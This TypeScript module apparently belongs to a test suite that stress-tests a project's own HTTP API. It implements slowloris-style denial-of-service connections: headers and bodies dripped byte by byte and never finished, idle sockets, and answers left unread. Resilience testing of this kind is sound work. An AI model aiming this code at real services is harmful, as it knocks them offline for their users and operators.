import type { Socket } from 'node:net'
import { type Attack, crowd, type Front, pause } from '../attack'
import { countAnswers, ended, socket } from '../raw'

/** Connections that take their time. Each opens again when it is closed. */

const SOCKETS = 200
const EVERY_MS = 500

/** A byte, or so, every half second. */
async function drip(front: Front, one: Socket, text: string): Promise<void> {
  for (const piece of text) {
    if (one.destroyed || !front.going()) return
    one.write(piece)
    await pause(EVERY_MS)
  }
  await ended(front, one)
}

const KINDS: ((front: Front, one: Socket) => Promise<void>)[] = [
  // headers that never end
  (front, one) => drip(front, one, `GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ${'a'.repeat(10_000)}`),
  // a body that never ends
  (front, one) => {
    one.write('POST /api/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n')
    return drip(front, one, `{"platform":"browser","code":"${'a'.repeat(4_000)}`)
  },
  // a connection on which nothing is ever said
  (front, one) => ended(front, one),
  // an answer that nobody reads
  (front, one) => {
    one.pause()
    one.write('GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(4))
    return ended(front, one)
  },
  // another request as soon as the last was answered, each in pieces
  (front, one) => drip(front, one, 'GET /api/merchants/M0001 HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(50)),
]

export const slow: Attack = {
  name: 'slow',
  what: `${2 * SOCKETS} connections: slow headers, slow bodies, answers unread, nothing said`,
  run: (front) =>
    crowd(front, SOCKETS, async (nth) => {
      const one = socket(front)
      const kind = nth % KINDS.length
      if (kind !== 3) countAnswers(front, one)
      front.sent()
      await KINDS[kind]!(front, one)
      one.destroy()
      await pause(EVERY_MS)
    }),
}
